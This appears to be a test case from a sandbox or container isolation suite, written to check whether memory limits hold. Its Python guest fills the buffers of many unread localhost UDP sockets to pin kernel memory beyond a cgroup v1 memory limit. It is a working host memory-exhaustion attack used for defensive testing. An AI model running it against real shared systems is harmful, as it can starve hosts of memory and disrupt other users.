# guest: hides memory in datagrams that it sends to itself and never reads
# source: memory.kmem.tcp.limit_in_bytes of cgroup v1, which counts UDP too
# attacks: the host's memory
# walls: MemoryLimit
# observer: datagrams_taken
# oracle: the kernel's count of UDP memory, read from outside, grew by more than was granted
# status: ok, limit
# credit: held|"name": "memory"
# note: v1 counts these buffers apart and drops what is too much; v2 counts them as memory, and ends the box.
# options: --memory 48MiB
import socket

from attack import hold, tell

ends = []
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
total = 0
block = bytes(60000)
while len(ends) < 200 and total < 192 << 20:
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    end.bind(("127.0.0.1", 0))
    ends.append(end)
    # The kernel doubles what it grants of this, by net.core.rmem_max, and counts each datagram as more.
    for _ in range(end.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) // len(block) + 1):
        total += sender.sendto(block, end.getsockname())
hold("full")
tell("held", total)
